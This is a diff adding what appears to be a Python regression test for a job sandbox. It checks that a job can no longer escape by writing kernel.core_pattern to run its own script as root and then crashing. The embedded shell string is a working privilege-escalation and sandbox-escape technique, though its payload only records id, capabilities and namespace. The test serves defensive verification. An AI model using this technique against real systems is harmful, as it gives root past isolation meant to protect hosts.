@@ -1,0 +1,69 @@
+"""Inside the virtual machine: a job makes the kernel run a program of its own as root, outside of its sandbox.
+
+It sets `kernel.core_pattern` to a program in its run directory, and crashes. First with the arguments that the sandbox
+had before it covered the kernel's files, where that succeeds; then with those that it has.
+"""
+
+import subprocess
+import time
+from pathlib import Path
+
+from workers.kernel_files import kernel_arguments
+from workers.mounts import View
+from workers.sandbox import CONFINEMENT, Bubblewrap, choose_sandbox
+
+OWNED = Path("/root/owned")
+RUN_DIR = Path("/data/run/jobs/job/1")
+PATTERN = Path("/proc/sys/kernel/core_pattern")
+ATTACK = f"""
+cat > {RUN_DIR}/own.sh <<END
+#!/bin/busybox sh
+{{ id; grep CapEff /proc/self/status; readlink /proc/self/ns/mnt; }} > {OWNED}
+END
+chmod 755 {RUN_DIR}/own.sh
+echo "|{RUN_DIR}/own.sh %P" > {PATTERN}
+ulimit -c unlimited
+sh -c 'kill -SEGV $$'
+"""
+
+
+def main() -> None:
+    choose_sandbox("bubblewrap")  # it works here
+    now = Bubblewrap().enclose(["/bin/busybox", "sh", "-c", ATTACK], view())
+    added, at = kernel_arguments(), 1 + len(CONFINEMENT)
+    assert now[at : at + len(added)] == added
+    before = now[:at] + now[at + len(added) :]
+    old, new = owned_by("before", before), owned_by("now", now)
+    is_root = "uid=0" in old and "000001ffffffffff" in old and str(Path("/proc/1/ns/mnt").readlink()) in old
+    say("before", "root of the machine" if is_root else f"not what was expected: {old!r}")
+    say("now", "refused" if not new else f"root of the machine: {new!r}")
+    say("verdict", "passed" if is_root and not new else "failed")
+
+
+def view() -> View:
+    for name in ("work", "tmp"):
+        (RUN_DIR / name).mkdir(parents=True, exist_ok=True)
+    return View(run_dir=RUN_DIR, data_dir=Path("/data"))
+
+
+def owned_by(what: str, command: list[str]) -> str:
+    """What a program that the kernel started for this job left on the machine; nothing if it started none."""
+    pattern = PATTERN.read_text()
+    OWNED.unlink(missing_ok=True)
+    done = subprocess.run(command, capture_output=True, text=True, check=False)
+    for line in done.stderr.splitlines():
+        say(what, line)
+    deadline = time.monotonic() + 10.0
+    while not OWNED.exists() and PATTERN.read_text() != pattern and time.monotonic() < deadline:
+        time.sleep(0.1)
+    time.sleep(1.0)  # it may still be writing
+    PATTERN.write_text(pattern)
+    return OWNED.read_text() if OWNED.exists() else ""
+
+
+def say(what: str, text: str) -> None:
+    print(f"{what}: {text}", flush=True)  # noqa: T201 – to the console, where the script reads it
+
+
+if __name__ == "__main__":
+    main()
